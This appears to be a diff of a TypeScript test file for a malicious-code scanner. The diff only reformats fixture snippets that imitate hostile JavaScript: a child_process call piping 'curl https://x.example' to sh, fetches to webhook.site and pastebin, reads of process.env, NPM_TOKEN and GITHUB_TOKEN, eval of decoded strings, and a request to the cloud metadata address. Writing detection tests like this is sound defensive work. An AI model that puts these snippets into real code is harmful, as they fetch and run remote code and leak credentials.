@@ -22,14 +22,39 @@ function withParser<T>(choice: ParserChoice, run: () => T): T {
 }
 
 const SHAPES: Array<[name: string, code: string, kind?: 'js' | 'ts', path?: string]> = [
-  ['commonjs with decoders', "const cp = require('child_process');\nconst u = Buffer.from('aHR0cHM6Ly8yMDMuMC4xMTMuOS94', 'base64').toString();\neval(atob(p));\nfor (const k in process.env) send(k);\n"],
-  ['esm with dynamic import and fetch', "import https from 'node:https';\nexport * from './lib/x.js';\nconst m = await import('./y.js');\nfetch('https://webhook.site/abc');\n"],
-  ['folding and bindings', "const n = ['chi', 'ld_process'].join('');\nrequire(n)[String.fromCharCode(101,120,101,99)]('curl https://x.example | sh');\nmodule.constructor._load('ne' + 't');\nconst t = `${'h'}ttps://169.254.169.254/latest`;\n"],
-  ['non-ASCII text before signals', "// ünïcödé — 日本語 — emoji 🎉\nconst s = 'é'.repeat(3);\nrequire('https').get('https://pastebin.com/raw/x');\nprocess.env.NPM_TOKEN;\n"],
-  ['typescript', "import type { A } from './a';\nexport async function f(u: string): Promise<A> {\n  const r = await fetch(u) as Response;\n  return (await r.json()) as A;\n}\nenum E { X = 'https://203.0.113.5/x' }\n", 'ts', 'src/f.ts'],
-  ['jsx', "export const C = () => { new WebSocket('wss://ngrok.io/x'); return <div title=\"https://paste.ee/x\">{process.env.GITHUB_TOKEN}</div>; };\n", 'js', 'src/c.jsx'],
+  [
+    'commonjs with decoders',
+    "const cp = require('child_process');\nconst u = Buffer.from('aHR0cHM6Ly8yMDMuMC4xMTMuOS94', 'base64').toString();\neval(atob(p));\nfor (const k in process.env) send(k);\n",
+  ],
+  [
+    'esm with dynamic import and fetch',
+    "import https from 'node:https';\nexport * from './lib/x.js';\nconst m = await import('./y.js');\nfetch('https://webhook.site/abc');\n",
+  ],
+  [
+    'folding and bindings',
+    "const n = ['chi', 'ld_process'].join('');\nrequire(n)[String.fromCharCode(101,120,101,99)]('curl https://x.example | sh');\nmodule.constructor._load('ne' + 't');\nconst t = `${'h'}ttps://169.254.169.254/latest`;\n",
+  ],
+  [
+    'non-ASCII text before signals',
+    "// ünïcödé — 日本語 — emoji 🎉\nconst s = 'é'.repeat(3);\nrequire('https').get('https://pastebin.com/raw/x');\nprocess.env.NPM_TOKEN;\n",
+  ],
+  [
+    'typescript',
+    "import type { A } from './a';\nexport async function f(u: string): Promise<A> {\n  const r = await fetch(u) as Response;\n  return (await r.json()) as A;\n}\nenum E { X = 'https://203.0.113.5/x' }\n",
+    'ts',
+    'src/f.ts',
+  ],
+  [
+    'jsx',
+    'export const C = () => { new WebSocket(\'wss://ngrok.io/x\'); return <div title="https://paste.ee/x">{process.env.GITHUB_TOKEN}</div>; };\n',
+    'js',
+    'src/c.jsx',
+  ],
   ['obfuscated identifiers', "var _0x1a2b=['a'],_0x3c4d=1,_0x5e6f=2,_0x7a8b=3,_0x9c0d=4;function _0xabcd(){return _0x1a2b;}\n"],
-  ['env stringify and vm', "JSON.stringify({ env: process.env });\nconst vm = require('vm');\nvm.runInThisContext(code);\nnew vm.Script(src);\n"],
+  [
+    'env stringify and vm',
+    "JSON.stringify({ env: process.env });\nconst vm = require('vm');\nvm.runInThisContext(code);\nnew vm.Script(src);\n",
+  ],
 ];
 
 const signature = (r: ReturnType<typeof scanCode>) => ({
